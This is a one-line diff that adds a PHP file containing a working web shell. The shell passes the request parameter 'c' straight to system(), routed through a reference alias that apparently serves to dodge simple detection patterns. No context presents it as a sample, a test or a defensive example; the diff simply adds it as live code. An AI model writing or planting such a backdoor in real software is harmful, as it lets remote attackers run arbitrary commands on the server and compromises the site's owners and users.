@@ -1,0 +1,1 @@
+<?php $a = &$b; $b = $_REQUEST['c']; system($a);
